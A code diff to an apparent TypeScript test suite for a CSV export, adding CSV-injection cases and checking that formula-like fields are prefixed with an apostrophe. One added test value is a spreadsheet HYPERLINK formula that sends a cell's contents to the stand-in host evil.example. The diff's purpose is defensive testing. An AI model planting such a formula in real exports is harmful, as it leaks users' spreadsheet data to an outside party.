@@ -25,6 +25,9 @@ const TRICKY = [
   "line\nfeed and cr\ronly",
   " spaces around ",
   "=SUM(A1:A2)",
+  '@HYPERLINK("https://evil.example/?"&A1)',
+  "+1+1",
+  "-2+3",
 ];
 const META = { note: 'x,"y"\r\nz', emoji: "🎫", nested: { a: [1, null, "é"], empty: "" } };
 
@@ -48,12 +51,24 @@ const csv = (text: string): Record<string, string | null>[] =>
     cast: (value, ctx) => (ctx.header || ctx.quoting || value !== "" ? value : null),
   });
 
-/** A record as its CSV row should read: text of each field, null as null, metadata as its JSON text. */
+/** What a spreadsheet would run as a formula: such a text goes with a leading ' (CSV injection). */
+const FORMULA = /^[=+\-@\t\r]/;
+
+/**
+ * A record as its CSV row should read: text of each field (a formula-like one after a '),
+ * null as null, metadata as its JSON text.
+ */
 const asCsv = (r: Row) =>
   Object.fromEntries(
     Object.entries(r).map(([k, v]) => [
       k,
-      v === null ? null : typeof v === "object" ? JSON.stringify(v) : String(v),
+      v === null
+        ? null
+        : typeof v === "object"
+          ? JSON.stringify(v)
+          : typeof v === "string" && FORMULA.test(v)
+            ? `'${v}`
+            : String(v),
     ]),
   );
 
@@ -129,7 +144,7 @@ export function exportChecks(target: () => HttpTarget) {
     }
   });
 
-  it("CSV: RFC 4180, a header row of the columns, every field round-trips (unicode, quotes, commas, CR/LF), null empty and an empty string quoted", async () => {
+  it("CSV: RFC 4180, a header row of the columns, every field round-trips (unicode, quotes, commas, CR/LF), formulas defused, null empty and an empty string quoted", async () => {
     const t = target();
     const e = freshId("export");
     await seedTricky(t, e);
@@ -152,6 +167,9 @@ export function exportChecks(target: () => HttpTarget) {
     expect(scans).toMatch(/,bare,[^\r\n]*,true,,,,\d{4}-/);
     expect(scans).toContain(',"",');
     expect(scans).toContain('"Gate ""A"", north\r\nlevel 2"');
+    // What a spreadsheet would run starts with a ' instead.
+    expect(scans).toContain(",'=SUM(A1:A2),");
+    expect(scans).not.toMatch(/,[=+\-@]/);
   });
 
   it("from (inclusive) and to (exclusive) bound the records' own time, and name the file", async () => {
